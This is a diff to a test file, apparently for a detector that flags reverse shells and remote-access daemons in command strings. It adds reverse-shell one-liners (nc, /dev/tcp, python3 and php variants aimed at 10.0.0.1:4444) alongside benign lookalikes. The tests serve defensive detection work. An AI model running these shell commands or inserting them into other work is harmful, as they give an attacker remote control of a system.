@@ -29,6 +29,15 @@ describe('shellListeners', () => {
     ['ncat --sh-exec bash 10.0.0.1 4444', 'reverse'],
     ['socat TCP:10.0.0.1:4444 EXEC:bash,pty', 'reverse'],
     ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse'],
+    ['cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f', 'reverse'],
+    ['exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | sh', 'reverse'],
+    ['exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5 >&5', 'reverse'],
+    ['python3 -c \'import socket,pty;s=socket.socket();pty.spawn("/bin/sh")\'', 'reverse'],
+    ['php -r \'$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3");\'', 'reverse'],
+    ['systemctl enable --now sshd', 'daemon'],
+    ['sv up sshd', 'daemon'],
+    ['s6-svc -u /run/service/sshd', 'daemon'],
+    ['vncserver :1', 'daemon'],
   ])('%s: %s', (text, what) => {
     expect(kinds(text)).toEqual([what]);
   });
@@ -48,6 +57,17 @@ describe('shellListeners', () => {
     'socat UNIX-LISTEN:/run/x TCP:db:5432',
     'bash -c "echo > /dev/tcp/db/5432"',
     'code-server',
+    'systemctl disable --now sshd',
+    'vncserver -kill :1',
+    'echo stats | nc -w 1 localhost 11211',
+    'cat run.sh | sh',
+    'sh run.sh | nc logs 514',
+    "bash -c 'exec 3<>/dev/tcp/localhost/80; cat <&3'",
+    'python3 -c "import socket; socket.create_connection((\'db\', 5432))"',
+    'python3 -c "import pty; print(1)"',
+    'pgrep sshd',
+    'rm -f /usr/sbin/sshd',
+    'dropbearkey -t rsa -f x',
     'ttyd --version',
   ])('%s: none', (text) => {
     expect(kinds(text)).toEqual([]);
